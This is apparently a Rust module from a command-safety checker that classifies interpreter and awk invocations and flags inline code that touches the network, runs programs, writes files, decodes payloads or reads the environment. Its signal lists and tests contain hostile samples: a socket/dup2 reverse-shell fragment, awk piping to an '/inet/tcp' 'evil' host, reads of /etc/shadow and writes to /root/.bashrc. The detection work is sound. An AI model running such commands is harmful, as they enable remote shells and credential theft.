//! Interpreters (python, perl, node, …) and awk: the flags that take inline code, where the
//! program comes from, and what inline code appears to do.

use std::sync::OnceLock;

use crate::args::OptSpec;
use crate::needles::NeedleSet;
use crate::syntax::Word;

use super::launch::Source;
use super::model::{Call, Program, Runs, kind};

/// The room's entries.
pub(crate) const PROGRAMS: &[Program] = &[
    interpreter(&["python", "python2", "python3", "pypy", "pypy3"], &["-c"]),
    Program {
        writes: Some(edits_in_place),
        ..interpreter(&["perl"], &["-e", "-E"])
    },
    Program {
        writes: Some(edits_in_place),
        ..interpreter(&["ruby"], &["-e"])
    },
    interpreter(&["irb", "tclsh", "wish", "ghci", "jshell", "java"], &[]),
    interpreter(&["node", "nodejs"], &["-e", "--eval", "-p", "--print"]),
    interpreter(&["deno"], &["eval"]),
    interpreter(&["bun"], &["-e", "--eval"]),
    interpreter(&["php"], &["-r"]),
    interpreter(
        &[
            "lua",
            "luajit",
            "R",
            "Rscript",
            "osascript",
            "jrunscript",
            "ghc",
            "gnuplot",
            "slsh",
            "scala",
            "groovy",
            "dc",
        ],
        &["-e"],
    ),
    interpreter(&["julia"], &["-e", "-E"]),
    interpreter(&["expect", "guile"], &["-c"]),
    interpreter(&["clisp"], &["-x"]),
    interpreter(&["sbcl", "octave", "octave-cli"], &["--eval"]),
    Program {
        names: &["awk", "gawk", "mawk", "nawk", "busybox-awk"],
        kind: kind::AWK | kind::PATTERN_FIRST | kind::CONTENT,
        options: OptSpec::new("Fvf", &["field-separator", "assign", "file"]),
        runs: Runs::Awk,
        writes: Some(awk_writes),
        dumps_env: Some(awk_environ),
        ..Program::NONE
    },
];

const fn interpreter(names: &'static [&'static str], inline: &'static [&'static str]) -> Program {
    Program {
        names,
        runs: Runs::Interpreter(inline),
        ..Program::NONE
    }
}

/// Interpreters that carry their version in their name (`python3.12`, `perl5.36`, `ruby3.2`):
/// the name they are filed under.
pub(crate) fn versioned(name: &str) -> Option<&'static str> {
    ["python", "perl", "ruby"].into_iter().find(|base| {
        name.strip_prefix(base).is_some_and(|rest| {
            !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit() || b == b'.')
        })
    })
}

/// `perl -i -pe CODE FILES`, `ruby -i -pe CODE FILES`: the files it rewrites.
fn edits_in_place<'a>(call: &Call<'a>) -> Vec<&'a str> {
    let in_place = call
        .args
        .iter()
        .any(|w| w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains('i'));
    if !in_place {
        return Vec::new();
    }
    let Some(syntax) = super::launch::syntax_of(call.prog) else {
        return Vec::new();
    };
    let (Source::Code(code) | Source::File(code)) =
        super::launch::invocation(call.prog, syntax, call.args).source
    else {
        return Vec::new();
    };
    call.args
        .iter()
        .skip_while(|w| !std::ptr::eq(*w, code))
        .skip(1)
        .filter(|w| !w.text.starts_with('-'))
        .map(|w| w.text.as_str())
        .collect()
}

/// The files an awk program writes with `print > "file"` or `>> "file"`.
fn awk_writes<'a>(call: &Call<'a>) -> Vec<&'a str> {
    let AwkProgram::Text(w) = awk_program(call) else {
        return Vec::new();
    };
    let code = w.text.as_str();
    string_literals(code)
        .into_iter()
        .filter(|&(start, _)| {
            code.get(..start.saturating_sub(1))
                .is_some_and(|before| before.trim_end().ends_with('>'))
        })
        .filter_map(|(start, end)| code.get(start..end))
        .collect()
}

/// The byte ranges of the string literals (`'…'`, `"…"`, `` `…` ``) in a program's text,
/// without their quotes.
pub(crate) fn string_literals(code: &str) -> Vec<(usize, usize)> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let q = b[i];
        if !matches!(q, b'\'' | b'"' | b'`') {
            i += 1;
            continue;
        }
        let start = i + 1;
        let mut j = start;
        while j < b.len() && b[j] != q {
            j += if b[j] == b'\\' { 2 } else { 1 };
        }
        let end = j.min(b.len());
        if code.is_char_boundary(start) && code.is_char_boundary(end) {
            out.push((start, end));
        }
        i = end + 1;
    }
    out
}

/// Where an awk's program comes from.
#[derive(Debug, Clone, Copy)]
pub(crate) enum AwkProgram<'a> {
    /// `-f FILE`.
    File(&'a str),
    /// The first operand.
    Text(&'a Word),
    /// None given.
    Missing,
}

/// `ENVIRON` in an awk program: it reads the environment, credentials included.
fn awk_environ(call: &Call<'_>) -> bool {
    matches!(awk_program(call), AwkProgram::Text(w) if w.text.contains("ENVIRON"))
}

/// Whether an awk invocation only reads and prints: a literal program, only `-F`/`-v` options,
/// and a program text with no way to run a command, write or read a file of its choosing, or
/// read the environment: no `system`, no pipe (`|`, `|&`), no `getline`, no `ENVIRON`, no gawk
/// directive (`@include`, `@load`), and no `>` that could be an output redirection (a `>` in a
/// pattern, inside parentheses, or in `>=` is a comparison). Regex and string literals are
/// skipped, so `/a|b/` and `"x > y"` are text.
pub(crate) fn awk_reads_only(call: &Call<'_>, program: &Word) -> bool {
    let options_ok = call.opts.shorts.iter().all(|c| matches!(c, 'F' | 'v'))
        && call
            .opts
            .longs
            .iter()
            .all(|(name, _)| matches!(*name, "field-separator" | "assign"));
    options_ok && program.is_static() && awk_text_reads_only(&program.text)
}

/// See [`awk_reads_only`]: the program text alone.
pub(crate) fn awk_text_reads_only(code: &str) -> bool {
    // `ARGV[1]="/etc/shadow"; ARGC=2`: the program picks the files it reads.
    const CODE_WORDS: &[&str] = &[
        "system", "getline", "ENVIRON", "PROCINFO", "ARGV", "ARGC", "@",
    ];
    let b = code.as_bytes();
    let (mut braces, mut parens, mut i) = (0usize, 0usize, 0usize);
    // Where an operand is expected, `/` starts a regex; after an operand, it divides.
    let mut operand_expected = true;
    let mut plain = String::with_capacity(code.len());
    while i < b.len() {
        let c = b[i];
        match c {
            b'"' => {
                i += 1;
                while i < b.len() && b[i] != b'"' {
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                operand_expected = false;
            }
            b'/' if operand_expected => {
                i += 1;
                while i < b.len() && b[i] != b'/' {
                    if b[i] == b'\n' {
                        return false;
                    }
                    i += if b[i] == b'\\' { 2 } else { 1 };
                }
                operand_expected = false;
            }
            b'#' => {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            b'{' => {
                braces += 1;
                operand_expected = true;
            }
            b'}' => {
                braces = braces.saturating_sub(1);
                operand_expected = true;
            }
            b'(' => {
                parens += 1;
                operand_expected = true;
            }
            b')' => {
                parens = parens.saturating_sub(1);
                operand_expected = false;
            }
            b'|' => {
                if b.get(i + 1) == Some(&b'|') {
                    i += 1;
                    operand_expected = true;
                } else {
                    return false;
                }
            }
            b'>' => {
                if b.get(i + 1) == Some(&b'=') {
                    i += 1;
                } else if braces > 0 && parens == 0 {
                    return false;
                }
                operand_expected = true;
            }
            b'<' => {
                // `getline < file` is refused by name; `<` elsewhere compares.
                operand_expected = true;
            }
            c if c.is_ascii_alphanumeric() || c == b'_' || c == b'$' => {
                plain.push(c as char);
                operand_expected = false;
                i += 1;
                continue;
            }
            c if c.is_ascii_whitespace() => {
                if c == b'\n' {
                    operand_expected = true;
                }
                plain.push(' ');
                i += 1;
                continue;
            }
            b'@' => plain.push('@'),
            b'`' => return false,
            _ => operand_expected = true,
        }
        plain.push(' ');
        i += 1;
    }
    !CODE_WORDS.iter().any(|w| plain.contains(w))
}

/// `python -m base64 -d`, `python -m codecs`: modules that decode what they are given.
pub(crate) fn module_decodes(args: &[Word]) -> bool {
    let module = args
        .iter()
        .enumerate()
        .find_map(|(i, w)| match w.text.as_str() {
            "-m" => args.get(i + 1).map(|m| m.text.as_str()),
            t => t.strip_prefix("-m").filter(|m| !m.is_empty()),
        });
    matches!(
        module,
        Some("base64" | "codecs" | "binascii" | "zlib" | "gzip" | "bz2" | "lzma" | "uu" | "quopri")
    )
}

/// An awk's program.
pub(crate) fn awk_program<'a>(call: &Call<'a>) -> AwkProgram<'a> {
    if let Some(f) = call.opts.value(Some('f'), Some("file")) {
        return AwkProgram::File(f);
    }
    match call.opts.operands.first() {
        Some(w) => AwkProgram::Text(w),
        None => AwkProgram::Missing,
    }
}

/// Inline code signals, lowercase.
const NET_SIGNALS: &[&str] = &[
    "/inet/",
    "socket",
    "fsockopen",
    "tcpsocket",
    "io::socket",
    "net::",
    "urllib",
    "requests.",
    "http.client",
    "httplib",
    "http.get",
    "http.request",
    "require(\"http",
    "require('http",
    "require(\"net",
    "require('net",
    "net.connect",
    "createconnection",
    "/dev/tcp",
    "uri.open",
    "open-uri",
    "download(",
    "file_get_contents(\"http",
    "file_get_contents('http",
    "fetch(",
    "websocket",
    "sockets",
    "ztcp",
    "lwp::",
    "connect(",
];
const EXEC_SIGNALS: &[&str] = &[
    "system(",
    "system \"",
    "system '",
    "exec(",
    "exec \"",
    "exec '",
    "execl",
    "execv",
    "popen",
    "spawn",
    "subprocess",
    "os.system",
    "child_process",
    "pty.",
    "shell_exec",
    "passthru",
    "proc_open",
    "pcntl_exec",
    "io.popen",
    "run(`",
    "callcommand",
    "os.execute",
    "/bin/sh",
    "/bin/bash",
    "runtime.getruntime",
    "processbuilder",
    "%x(",
    "qx(",
    "qx{",
    "run-shell-command",
    "esyscmd",
    "getline",
    "| \"",
    "|&",
    "fork",
    "dup2",
    "run(",
    "system ",
    "exec ",
];
const WRITE_SIGNALS: &[&str] = &[
    "writefile",
    "file_put_contents",
    "fopen",
    "fputs",
    "fwrite",
    "unlink",
    "rmtree",
    "rm_rf",
    "rm_r(",
    "rmsync",
    "rmdir",
    "fs.rm(",
    "remove_dir_all",
    "remove-item",
    "remove(",
    "rename(",
    "io.open",
    "file.open",
    "file.write",
    "copyfile",
    "shutil",
    "\"w\"",
    "'w'",
    "\"w+\"",
    "'w+'",
    "\"wb\"",
    "'wb'",
    "\"a\"",
    "'a'",
    "> \"",
    ">> \"",
    "out-file",
    "openout",
    "write18",
    "dump value",
];

/// Decoding of hidden text (lowercase).
const DECODE_SIGNALS: &[&str] = &[
    "b64decode",
    "base64",
    "decode_base64",
    "fromcharcode",
    "unhexlify",
    "frombase64string",
    "pack(\"h",
    "pack('h",
    "atob(",
    "buffer.from",
    "codecs.decode",
    "bytes.fromhex",
    "zlib.decompress",
    "marshal.loads",
    "rot13",
    "rot_13",
    "str_rot13",
    "gzinflate",
    "hex2bin",
];
/// Reads of the whole environment (lowercase).
const ENV_SIGNALS: &[&str] = &[
    "os.environ",
    "process.env",
    "environ",
    "getenv",
    "env::vars",
    "%env",
    "$env:",
    "env[",
    "printenv",
];

/// Evaluation of text as code (lowercase).
const EVAL_SIGNALS: &[&str] = &[
    "eval(",
    "eval ",
    "exec(",
    "compile(",
    "new function",
    "function(",
    "instance_eval",
    "iex",
    "invoke-expression",
    "assert(",
    "create_function",
];

/// Whether inline code deletes a tree (`rmtree`, `rm_rf`, `rmSync(…, {recursive})`,
/// `remove_dir_all`) and names the home directory or the root (`$ENV{HOME}`,
/// `os.path.expanduser('~')`, `os.homedir()`, `'/'`). Heuristic, and only ever raising.
pub(crate) fn deletes_home_or_root(code: &str) -> bool {
    let c = code.to_ascii_lowercase();
    let deletes = [
        "rmtree",
        "rm_rf",
        "rm_r(",
        "rmsync",
        "remove_dir_all",
        "fs.rm(",
        "rimraf",
    ]
    .iter()
    .any(|d| c.contains(d));
    deletes
        && [
            "$env{home}",
            "environ['home']",
            "environ[\"home\"]",
            "getenv('home')",
            "getenv(\"home\")",
            "expanduser(",
            "homedir()",
            "path.home()",
            "dir.home",
            "env.home",
            "home_dir()",
            "('/')",
            "(\"/\")",
            "('/',",
            "(\"/\",",
            "'~'",
            "\"~\"",
        ]
        .iter()
        .any(|h| c.contains(h))
}

/// What inline interpreter code appears to do.
#[derive(Debug, Default, Clone, Copy)]
pub(crate) struct CodeSignals {
    /// Opens network connections.
    pub(crate) network: bool,
    /// Runs other programs.
    pub(crate) exec: bool,
    /// Writes or deletes files.
    pub(crate) write: bool,
    /// Decodes hidden text and evaluates or runs what comes out (`exec(b64decode(…))`).
    pub(crate) decode_eval: bool,
    /// Reads the environment, where credentials live.
    pub(crate) env: bool,
    /// Decodes hidden text (`b64decode`, `pack("H*", …)`): what it prints may be a payload.
    pub(crate) decodes: bool,
}

/// Scans inline code for what it does. Heuristic and only ever raising: any code is at least
/// not read-only.
pub(crate) fn code_signals(code: &str) -> CodeSignals {
    static SET: OnceLock<NeedleSet> = OnceLock::new();
    let set = SET.get_or_init(|| {
        NeedleSet::tagged(&[
            (NET_SIGNALS, 1),
            (EXEC_SIGNALS, 2),
            (WRITE_SIGNALS, 4),
            (DECODE_SIGNALS, 8),
            (EVAL_SIGNALS, 16),
            (ENV_SIGNALS, 32),
        ])
    });
    let found = set.scan(code);
    CodeSignals {
        network: found & 1 != 0,
        exec: found & 2 != 0,
        write: found & 4 != 0,
        decode_eval: found & 8 != 0 && found & (16 | 2) != 0,
        env: found & 32 != 0,
        decodes: found & 8 != 0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source_of(prog: &str, _inline: &[&str], cmd: &str) -> String {
        let words: Vec<Word> = cmd.split_whitespace().map(Word::literal).collect();
        let syntax = super::super::launch::syntax_of(prog).unwrap_or_else(|| panic!("{prog}"));
        match super::super::launch::invocation(prog, syntax, &words).source {
            Source::Code(w) => format!("code {}", w.text),
            Source::Module(_) => "module".into(),
            Source::File(w) => format!("file {}", w.text),
            Source::Stdin => "stdin".into(),
            _ => "other".into(),
        }
    }

    #[test]
    fn where_the_program_comes_from() {
        assert_eq!(
            source_of("python3", &["-c"], "-c print(1)"),
            "code print(1)"
        );
        assert_eq!(source_of("python3", &["-c"], "-u x.py a"), "file x.py");
        assert_eq!(source_of("python3", &["-c"], "-m http.server"), "module");
        assert_eq!(source_of("python3", &["-c"], "-"), "stdin");
        assert_eq!(
            source_of("perl", &["-e", "-E"], "-ne print f"),
            "code print"
        );
        assert_eq!(
            source_of("node", &["-e", "--eval"], "--eval=x()"),
            "code --eval=x()"
        );
        assert_eq!(source_of("ruby", &["-e"], ""), "stdin");
        assert_eq!(versioned("python3.12"), Some("python"));
        assert_eq!(versioned("pythonista"), None);
    }

    #[test]
    fn code_signals_are_heuristic_but_only_raise() {
        let s = code_signals("import socket,os;s=socket.socket();os.dup2(1,2)");
        assert!(s.network && s.exec);
        let s = code_signals("print(sum(range(10)))");
        assert!(!s.network && !s.exec && !s.write);
        assert!(code_signals("open('x','w').write('y')").write);
        assert!(code_signals("exec(__import__('base64').b64decode('aWQ='))").decode_eval);
        assert!(!code_signals("print(base64.b64encode(b'x'))").decode_eval);
    }

    #[test]
    fn awk_programs_that_only_read() {
        for code in [
            "{print $1}",
            "{print $2, $11}",
            "NR>1 {sum += $3} END {print sum}",
            "$3 > 100",
            "$3 >= 100 {print}",
            "{ if ($3 > 100) print $1 }",
            "/error|warn/ {n++} END {print n}",
            "{ a = $1 || $2; print a }",
            "BEGIN {FS=\",\"} {print $1 \" > \" $2}",
            "{printf \"%s\\n\", $1}",
            "length($0) > 80",
            "{ x = $2 / 2; print x }",
        ] {
            assert!(awk_text_reads_only(code), "{code}");
        }
        for code in [
            "{print $1 > \"out\"}",
            "{print >> \"/root/.bashrc\"}",
            "{printf(\"%s\", $1) > \"f\"}",
            "{print | \"sh\"}",
            "{print |& \"/inet/tcp/0/evil/1\"}",
            "BEGIN {system(\"id\")}",
            "BEGIN {while ((getline l < \"/etc/shadow\") > 0) print l}",
            "BEGIN {\"id\" | getline x; print x}",
            "BEGIN {for (k in ENVIRON) print k, ENVIRON[k]}",
            "@include \"x.awk\"",
            "@load \"ext\"",
            "BEGIN { s = \"sys\" \"tem\"; @s(\"id\") }",
            "{ print $1 > out }",
            "/a\nb/",
        ] {
            assert!(!awk_text_reads_only(code), "{code}");
        }
    }

    #[test]
    fn literals_and_awk_redirections() {
        let code = r#"print "a" > "/root/.bashrc"; system("id")"#;
        let lits: Vec<&str> = string_literals(code)
            .into_iter()
            .map(|(s, e)| &code[s..e])
            .collect();
        assert_eq!(lits, ["a", "/root/.bashrc", "id"]);
        let words: Vec<Word> = ["-F:", code].map(Word::literal).to_vec();
        let call = Call::new(
            "awk",
            &words,
            &PROGRAMS.last().map_or(OptSpec::NONE, |p| p.options),
        );
        assert_eq!(awk_writes(&call), ["/root/.bashrc"]);
        let words: Vec<Word> = ["-pi", "-e", "s/a/b/", "~/.bashrc"]
            .map(Word::literal)
            .to_vec();
        let call = Call::new("perl", &words, &OptSpec::NONE);
        assert_eq!(edits_in_place(&call), ["~/.bashrc"]);
    }
}
